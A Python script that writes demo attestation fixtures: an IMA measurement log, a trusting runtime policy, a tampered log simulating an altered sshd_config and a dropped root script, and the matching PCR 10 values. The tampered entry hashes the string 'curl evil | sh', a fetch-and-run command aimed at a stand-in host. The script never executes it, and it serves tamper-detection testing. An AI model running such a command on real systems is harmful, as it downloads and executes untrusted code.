#!/usr/bin/env python3
"""Writes the bundled demo node: an ima-ng measurement list, the runtime policy that
trusts it, a tampered copy of the list, and the PCR 10 values a TPM would quote.

The files are committed; re-run this script only to change them. Deterministic.
Template data layout (ima-ng, little-endian lengths):
  d-ng = u32(len(alg) + 2 + len(digest)) || alg || ':' || '\\0' || digest
  n-ng = u32(len(path) + 1) || path || '\\0'
The template-hash column is SHA-1 of the template data; the sha256 bank extends
SHA-256 of it.
"""
import hashlib
import json
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))

FILES = [
    "/usr/lib/systemd/systemd",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/bin/bash",
    "/usr/bin/ls",
    "/usr/sbin/sshd",
    "/etc/ssh/sshd_config",
    "/usr/bin/python3.11",
    "/opt/shop/bin/shop-server",
    "/opt/shop/etc/shop.toml",
    "/tmp/build-cache.bin",
]


def content(path, tampered=False):
    return ("%s %s" % ("evil" if tampered else "good", path)).encode()


def template_data(digest, path):
    alg = b"sha256"
    name = path.encode()
    return (struct.pack("<I", len(alg) + 2 + len(digest)) + alg + b":\0" + digest
            + struct.pack("<I", len(name) + 1) + name + b"\0")


def write_log(filename, entries):
    pcr = {"sha1": b"\0" * 20, "sha256": b"\0" * 32}
    lines = []
    for digest, path in entries:
        td = template_data(digest, path)
        for bank in pcr:
            pcr[bank] = hashlib.new(bank, pcr[bank] + hashlib.new(bank, td).digest()).digest()
        lines.append("10 %s ima-ng sha256:%s %s" % (hashlib.sha1(td).hexdigest(), digest.hex(), path))
    with open(os.path.join(HERE, filename), "w") as f:
        f.write("\n".join(lines) + "\n")
    return {bank: value.hex() for bank, value in pcr.items()}


def main():
    boot_aggregate = hashlib.sha256(b"demo boot aggregate").digest()
    good = [(boot_aggregate, "boot_aggregate")]
    good += [(hashlib.sha256(content(p)).digest(), p) for p in FILES]

    policy = {
        "meta": {"version": 1, "generator": 3},
        "release": 0,
        "digests": {path: [digest.hex()] for digest, path in good if not path.startswith("/tmp/")},
        "excludes": ["/tmp/.*"],
        "keyrings": {},
        "ima": {"ignored_keyrings": [], "log_hash_alg": "sha1", "dm_policy": None},
        "ima-buf": {},
        "verification-keys": "",
    }
    with open(os.path.join(HERE, "runtime-policy.json"), "w") as f:
        json.dump(policy, f, indent=2, sort_keys=True)
        f.write("\n")

    tampered = list(good)
    # An attacker replaced sshd's configuration and dropped a script in /root.
    idx = FILES.index("/etc/ssh/sshd_config") + 1
    tampered[idx] = (hashlib.sha256(content("/etc/ssh/sshd_config", tampered=True)).digest(), "/etc/ssh/sshd_config")
    tampered.append((hashlib.sha256(b"curl evil | sh").digest(), "/root/bad-script.sh"))

    pcrs = {
        "ascii_runtime_measurements": write_log("ascii_runtime_measurements", good),
        "tampered_runtime_measurements": write_log("tampered_runtime_measurements", tampered),
    }
    with open(os.path.join(HERE, "pcr10.json"), "w") as f:
        json.dump(pcrs, f, indent=2, sort_keys=True)
        f.write("\n")


if __name__ == "__main__":
    main()
